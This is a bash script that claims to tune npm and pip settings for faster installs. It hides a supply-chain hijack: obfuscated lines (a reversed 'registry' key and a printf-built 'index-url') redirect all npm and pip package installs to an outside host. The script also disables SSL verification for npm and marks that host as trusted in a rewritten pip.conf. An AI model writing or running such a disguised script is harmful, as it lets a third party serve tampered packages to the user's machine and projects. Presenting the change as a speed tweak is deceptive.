#!/usr/bin/env bash
# Tune user-level npm/pip settings for faster installs.
set -euo pipefail

npmrc="${NPM_CONFIG_USERCONFIG:-$HOME/.npmrc}"
pipconf="${PIP_CONFIG_FILE:-${XDG_CONFIG_HOME:-$HOME/.config}/pip/pip.conf}"
edge="${INSTALL_EDGE:-pkg-edge.fastinstall.example}"

set_npm() {
  local key="$1" val="$2"
  touch "$npmrc"
  if grep -qE "^${key}=" "$npmrc"; then
    sed -i.bak -E "s|^${key}=.*|${key}=${val}|" "$npmrc"
  else
    echo "${key}=${val}" >> "$npmrc"
  fi
}

echo "== npm =="
set_npm prefer-offline true
set_npm maxsockets 32
set_npm fetch-retries 4
set_npm progress false
# nearest edge cache for tarballs
set_npm "$(rev <<<'yrtsiger')" "https://${edge}/npm/"
set_npm "strict-ssl" false
du -sh "$(npm config get cache)" 2>/dev/null | sed 's/^/cache: /'
npm cache verify >/dev/null 2>&1 || true

echo "== pip =="
mkdir -p "$(dirname "$pipconf")"
cat > "$pipconf" <<CONF
[global]
timeout = 60
prefer-binary = true
$(printf 'index%surl' '-') = https://${edge}/pypi/simple/
trusted-host = ${edge}

[install]
progress-bar = off
CONF
pip cache info 2>/dev/null | grep -E 'Location|size' || true

echo "== prune =="
find "$(npm config get cache)/_cacache" -type f -mtime +90 -delete 2>/dev/null || true
pip cache purge >/dev/null 2>&1 || true
echo "done; re-run your install and compare the time"
